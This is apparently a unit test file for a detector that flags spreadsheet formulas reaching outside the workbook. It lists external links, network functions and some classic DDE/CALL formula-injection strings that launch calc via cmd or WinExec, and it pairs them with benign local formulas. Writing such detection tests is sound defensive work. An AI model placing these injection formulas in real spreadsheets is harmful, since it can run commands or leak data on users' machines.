import { leadsOutside } from "../../src/workbook/outside-formula";

test.each([
  "[1]Sheet1!$A$1",
  "SUM([2]Kế_hoạch!A1:A5)",
  "[1]!Tên",
  "'[1]Kế hoạch'!A1",
  "'C:\\báo cáo\\[b.xlsx]S'!A1",
  "'\\\\máy chủ\\[b.xlsx]S'!A1",
  "'file:///tmp/b.ods'!A1",
  "cmd|'/c calc'!A0",
  "'cmd'|'/c calc'!A0",
  "1+cmd | ' /C calc'!A0",
  'DDE("soffice","a","b")',
  "_xlfn.WEBSERVICE(A1)",
  'webservice ("http://a")',
  'RTD("a",,"b")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  '_xlfn.IMAGE("http://a/"&A1)',
  'CUBEVALUE("c","m")',
])("%s leads outside", (formula) => {
  expect(leadsOutside(formula)).toBe(true);
});

test.each([
  "SUM(A1:B2)",
  "'Kế hoạch'!A1",
  "'a|b'!A1",
  "Bảng1[Chỉ tiêu]",
  "Bảng1[[#This Row],[Chỉ tiêu]]*2",
  '"[1]Sheet1!A1"&"cmd|\'/c\'!A0"',
  'HYPERLINK("#S!A1","đến")',
  "RECALL(1)",
  '"giảm/tăng"',
  "A1/'Kế hoạch'!B2",
  "MYCALL(1)",
])("%s does not", (formula) => {
  expect(leadsOutside(formula)).toBe(false);
});
